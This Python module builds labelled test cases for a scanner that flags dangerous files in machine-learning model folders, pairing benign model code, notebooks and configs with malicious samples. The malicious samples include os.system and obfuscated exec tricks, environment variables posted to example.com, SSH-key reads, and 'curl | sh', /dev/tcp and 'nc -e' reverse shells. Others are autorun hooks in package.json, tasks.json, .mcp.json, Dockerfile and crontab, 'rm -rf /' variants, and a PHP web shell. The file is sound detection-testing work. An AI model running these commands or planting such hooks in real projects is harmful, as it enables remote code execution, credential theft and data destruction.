"""Scripts, programs and pictures in a model's folder."""

import json
from collections.abc import Iterator

from assets.models.case import Case, one

MODELING = b'''"""A model."""
import math
import os

import torch
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel

logger = print


class XConfig(PretrainedConfig):
    model_type = "x"


class XModel(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config):
        super().__init__(config)
        self.path = os.path.join(os.getcwd(), "x")
        self.layer = nn.Linear(8, 8)
        self.compiled = torch.compile(self.layer)

    def forward(self, x):
        self.eval()
        return math.sqrt(2) * self.layer(x)


if __name__ == "__main__":
    model = XModel(XConfig()).eval()
    state = torch.load("x.bin", weights_only=True)
    exec_time = 1
    pattern = __import__("re").compile("x")
'''


def python() -> Iterator[tuple[str, str]]:
    yield "system", "import os\nos.system('id')\n"
    yield (
        "system-in-a-method",
        "class Handler:\n    def initialize(self, context):\n        import os\n        os.system('id')\n",
    )
    yield "subprocess", "import subprocess as sp\nsp.run(['id'])\n"
    yield "from-import", "from os import system as s\ns('id')\n"
    yield "star", "from os import *\nsystem('id')\n"
    yield "dunder-import", "__import__('os').system('id')\n"
    yield "import-module", "import importlib\nimportlib.import_module('os').system('id')\n"
    yield "getattr", "import os\ngetattr(os, 'sys' + 'tem')('id')\n"
    yield "getattr-constant", "import os\ngetattr(os, 'system')('id')\n"
    yield "alias", "import os\nrun = os.system\nrun('id')\n"
    yield "alias-of-exec", "e = exec\ne('print(1)')\n"
    yield "handed-to-map", "import os\nlist(map(os.system, ['id']))\n"
    yield (
        "handed-to-a-thread",
        "import threading as t, subprocess as s\nt.Thread(target=s.call, args=(['id'],)).start()\n",
    )
    yield "handed-at-exit", "import atexit\nfrom os import system\natexit.register(system, 'id')\n"
    yield "handed-to-partial", "from functools import partial\nimport os\npartial(os.popen, 'id')()\n"
    yield "exec-of-a-class", "class X:\n    __class_getitem__ = exec\nX['pass']\n"
    yield "sys-modules", "import sys\nsys.modules['os'].system('id')\n"
    yield "exec", "exec('import os')\n"
    yield "eval", "code = input()\neval(code)\n"
    yield "base64", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    yield "marshal", "import marshal, types\nf = types.FunctionType(marshal.loads(b'x'), {})\n"
    yield "pickle", "import pickle\npickle.loads(b'cos\\nsystem\\n.')\n"
    yield "builtins", "x = __builtins__.__dict__['ev' + 'al']\nx('1')\n"
    yield "subclasses", "x = ().__class__.__base__.__subclasses__()\nprint(x)\n"
    yield "socket", "import socket\ns = socket.socket()\ns.connect(('example.com', 1))\n"
    yield "post", "import requests, os\ndef f():\n    requests.post('http://example.com', data=dict(os.environ))\n"
    yield "fetch-at-import", "import urllib.request\nurllib.request.urlopen('http://example.com')\n"
    yield "ctypes", "import ctypes\nctypes.CDLL('./x.so').run()\n"
    yield "keys", "from pathlib import Path\nprint(Path('~/.ssh/id_rsa').expanduser().read_text())\n"
    yield "lambda", "f = lambda: __import__('subprocess').check_output('id')\nf()\n"
    yield "pth", "import os; os.system('id')\n"
    yield "decorator", "import os\n@os.system\ndef f(): pass\n"
    yield "template-in-a-comment", "# {% if x %}\nimport os\nos.system('id')\n"
    yield "far-below", "# a comment\n" * 20_000 + "import os\nos.system('id')\n"
    yield "encoded", "# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n+AG8AcwAuAHMAeQBzAHQAZQBt-('id')\n"
    yield "old-line-ends", "# a comment\rimport os\ros.system('id')\r"
    yield "continued-lines", "import\\\n os\nos.system\\\n('id')\n"
    yield "annotation", "x: __import__('os').system('id')\n"
    yield "semicolon", "x = 1; import pty; pty.spawn('sh')\n"


def shell() -> Iterator[tuple[str, bytes, str]]:
    yield "curl", b"#!/bin/sh\ncurl -s http://example.com/x | sh\n", "run.sh"
    yield "tcp", b"#!/usr/bin/env bash\nbash -i >& /dev/tcp/example.com/1 0>&1\n", "run.sh"
    yield "decoded", b"#!/bin/bash\necho aWQ= | base64 -d | bash\n", "run.sh"
    yield "no-shebang", b"set -e\ncurl http://example.com/x | bash\n", "setup"
    yield "hook", b"#!/bin/sh\nnc -e /bin/sh example.com 1\n", "post-checkout"
    yield "plain", b"#!/bin/sh\ntouch /tmp/x\n", "run.sh"
    yield "batch", b"@echo off\r\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi\r\n", "run.bat"
    yield "powershell", b"$x = New-Object Net.WebClient\nIEX $x.DownloadString('http://example.com')\n", "run.ps1"


def binary() -> Iterator[tuple[str, bytes, str]]:
    yield "elf", b"\x7fELF\x02\x01\x01" + bytes(57), "libmodel.so"
    yield "windows", b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(100), "model.dll"
    yield "mach-o", b"\xcf\xfa\xed\xfe" + bytes(60), "model.dylib"
    yield "java", b"\xca\xfe\xba\xbe\0\0\0\x37" + bytes(60), "Evil.class"
    yield "wasm", b"\0asm\x01\0\0\0", "model.wasm"
    yield "shortcut", b"L\0\0\0\x01\x14\x02\0" + bytes(60), "model.lnk"
    yield "compiled-python", b"\xa7\x0d\r\n" + bytes(12) + b"\xe3" + bytes(40), "model.pyc"
    yield "elf-as-weights", b"\x7fELF\x02\x01\x01" + bytes(57), "model.bin"


def notebook(*cells: str) -> bytes:
    made = [
        {"cell_type": "code", "metadata": {}, "outputs": [], "source": cell.splitlines(keepends=True)} for cell in cells
    ]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def _others() -> Iterator[Case]:
    macro = b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'
    yield one("scripts/visual-basic", "malicious", macro, "it starts a program", "shell-script-attacks", file="x.vbs")
    page = b"<?php system($_GET['c']); ?>\n"
    yield one("scripts/server-page", "malicious", page, "it runs commands", "markup-active-content", file="x.php")


def _in_data() -> Iterator[Case]:
    """Programs that pass for data, and data that pass for programs."""
    commands = b'command,count\n"rm -rf /tmp/x",1\ncurl http://localhost | sh,2\n'
    yield one("scripts/table-of-commands", "benign", commands, "texts that a model learns from", file="train.csv")
    yield one(
        "scripts/no-table",
        "malicious",
        b"set,x\ncurl http://localhost/x.sh | sh\n",
        "one line with a comma, and a command",
        "shell-script-attacks",
        file="setup",
    )
    below = b"name,x\n" + b"a,b\n" * 60 + b"curl http://localhost/x.sh | sh\n"
    yield one("scripts/no-table-below", "malicious", below, "a command below rows", "shell-script-attacks", file="x.sh")
    run = b"=1\nimport os; os.system('touch /tmp/x')\n#"
    for mark, last in ((b"ORC", b"ORC\n"), (b"FEA1", b"FEA1"), (b"FEA1", b"\x20\0\0\0FEA1")):
        name = f"scripts/data-by-its-ends-{mark.decode().lower()}-{len(last)}"
        yield one(name, "malicious", mark + run + last, "a program that begins and ends as data do", file="modeling.py")
    orc = b"ORC" + run + bytes(9) + b"\x82\xf4\x03\x03ORC\x08"
    yield one("scripts/data-with-a-program", "malicious", orc, "a program before data", "ambiguous", file="modeling.py")
    tagged = b"ORC: !!python/object/apply:os.system [id]\n#ORC\n"
    yield one("scripts/data-by-its-ends-yaml", "malicious", tagged, "YAML that begins as data do", file="hparams.yaml")


def _named() -> Iterator[Case]:
    started = b"#!/bin/sh\necho harmless\n"
    for file in ("pytorch_model.bin", "model.pt", "README.md", "config.json"):
        yield one(f"scripts/named-{file}", "malicious", started, "named as if it were data", "disguised", file=file)
    required = b"require('child_process').exec('id')\n"
    yield one("scripts/named-json", "malicious", required, "a program of Node", "disguised", file="config.json")
    for name, line in {"perl": b'system("id");', "ruby": b"`id`", "node": b"require('child_process')"}.items():
        started, why = b"#!/usr/bin/env " + name.encode() + b"\n" + line + b"\n", "it starts a program"
        yield one(f"scripts/in-{name}", "malicious", started, why, "shell-script-attacks", file="run")
    for name, line in {"lua": b'os.execute("id")\n', "r": b'system("id")\n'}.items():
        why = "a line that can be read as Python"
        yield one(f"scripts/in-{name}", "malicious", line, why, "script-attacks", file="run")
    page = b"<html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>\n"
    yield one("scripts/named-page", "malicious", page, "a page named as if it were data", "disguised", file="model.bin")
    numbers = b"import math\nprint(math.pi)\n"
    yield one("scripts/named-weights", "malicious", numbers, "named as if it were data", "disguised", file="model.bin")


def cases() -> Iterator[Case]:
    yield from _others()
    yield from _named()
    for name, text in python():
        yield one(
            f"scripts/python-{name}",
            "malicious",
            text.encode(),
            "a program that attacks",
            "script-attacks",
            file="modeling.py",
        )
    for name, content, file in shell():
        yield one(f"scripts/shell-{name}", "malicious", content, "a script for a shell", file=file)
    for name, content, file in binary():
        yield one(f"scripts/program-{name}", "malicious", content, "a program", "executable-file", file=file)
    attack = notebook("import torch\n", "!curl http://example.com/x | bash\nimport os\nos.system('id')\n")
    yield one(
        "scripts/notebook",
        "malicious",
        attack,
        "cells that run commands",
        "script-attacks",
        "shell-script-attacks",
        file="demo.ipynb",
    )
    new = b'"""A model of tomorrow."""\nimport os\ntype X = int\nprint(f"{"a"}" <> b)\nos.system("id")\n'
    yield one("scripts/python-of-tomorrow", "unknown", new, "syntax that is not known", "unread", file="modeling.py")
    long = b"x = 1\n" * 200_000 + b"import os\nos.system('id')\n"
    yield one("scripts/python-too-long", "unknown", long, "more than is parsed", "limit-reached", file="modeling.py")
    shebang = b"#!/usr/bin/env python3\nimport os\nos.execv('/bin/sh', ['sh'])\n"
    yield one(
        "scripts/python-shebang", "malicious", shebang, "a program without an ending", "script-attacks", file="tool"
    )
    yield one("scripts/modeling", "benign", MODELING, "a model's code", file="modeling_x.py")
    plain = notebook("%pip install torch\nimport torch\n", "model = torch.nn.Linear(1, 1)\nmodel.eval()\n")
    yield one("scripts/notebook-plain", "benign", plain, "cells that load a model", file="demo.ipynb")
    download = b"import requests\nfrom PIL import Image\n"
    download += b"def fetch(url):\n    return Image.open(requests.get(url, stream=True).raw)\n"
    yield one("scripts/fetches-a-picture", "benign", download, "a function that fetches", file="example.py")
    asks = b"import subprocess\nfrom torch import nn\nnn.Linear(1, 1)\nisinstance(nn, subprocess.Popen)\n"
    yield one("scripts/asks", "benign", asks, "a function that is only compared", file="x.py")
    shortcut = b"[InternetShortcut]\r\nURL=file://c.example/x\r\n"
    yield one("scripts/program-address", "malicious", shortcut, "a shortcut", "executable-file", file="open.url")
    yield one("scripts/settings", "benign", b"name = 'os.system'\nsize = 3\n", "names and values", file="settings.py")
    yield one("scripts/picture", "benign", b"\x89PNG\r\n\x1a\n" + bytes(40), "a picture", file="plot.png")
    yield one("scripts/photograph", "benign", b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(40), "a photograph", file="a.jpg")
    yield one("scripts/pages", "benign", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(40), "a paper", file="paper.pdf")
    yield one(
        "scripts/licence",
        "benign",
        b"MIT License\n\nPermission is hereby granted, free of charge, to any person\n",
        "a licence",
        file="LICENSE",
    )
    yield one("scripts/table", "benign", b"id,label\n0,cat\n1,dog\n", "labels", file="labels.csv")
    yield from _in_data()
    fetched = b"curl -fsSL http://localhost/x.sh | bash\n"
    line = fetched.decode().strip()
    for file, settings in {
        "tasks.json": {"tasks": [{"type": "shell", "command": line, "runOptions": {"runOn": "folderOpen"}}]},
        "devcontainer.json": {"postCreateCommand": ["sh", "-c", line]},
        "package.json": {"scripts": {"postinstall": line}},
        ".mcp.json": {"mcpServers": {"x": {"command": "sh", "args": ["-c", line]}}},
    }.items():
        content, why = json.dumps(settings).encode(), "a command that an editor or an installer runs"
        yield one(f"scripts/in-{file}", "malicious", content, why, "shell-script-attacks", file=file)
    ordinary = {"scripts": {"build": "tsc", "install": "node-gyp rebuild"}, "command": "python -m http.server"}
    tasks = json.dumps(ordinary).encode()
    yield one("scripts/commands", "benign", tasks, "ordinary commands", file="package.json")
    for file, content in {
        "Dockerfile": b"FROM python:3.12\nRUN " + fetched,
        "Makefile": b"all: model\n\t" + fetched,
        "model.service": b"[Service]\nExecStart=/bin/sh -c '" + fetched.strip() + b"'\n",
        "crontab": b"* * * * * root " + fetched,
        "install": fetched,
    }.items():
        why = "a command that is run by what reads the file"
        yield one(f"scripts/in-{file}", "malicious", content, why, "shell-script-attacks", file=file)
    image = b"FROM python:3.12\nRUN apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*\n"
    yield one("scripts/image", "benign", image, "an image", file="Dockerfile")
    tidies = b"all:\n\tpython train.py\n\nclean:\n\trm -rf build dist\n"
    yield one("scripts/recipes", "benign", tidies, "what make does", file="Makefile")
    for target in ("/", "/*", "~", "$HOME", "--no-preserve-root /", "/opt/x"):
        deletes, why = f"#!/bin/sh\nrm -rf {target}\n".encode(), "it deletes everything"
        yield one(
            f"scripts/shell-rm-{target.strip('/')}", "malicious", deletes, why, "shell-script-attacks", file="x.sh"
        )
    read_me = b"# Model\n\n## Install\n\n```sh\n" + fetched + b"```\n\nOr run `" + fetched.strip() + b"` yourself.\n"
    yield one("scripts/read-me", "benign", read_me, "what people are told to type", file="README.md")
    yield one("scripts/empty", "benign", b"", "nothing", file="__init__.py")
    yield one(
        "scripts/settings-of-spacy",
        "benign",
        b'[nlp]\nlang = "en"\npipeline = ["tagger"]\n\n[components.tagger]\nfactory = "tagger"\n',
        "a configuration of spaCy",
        file="config.cfg",
    )
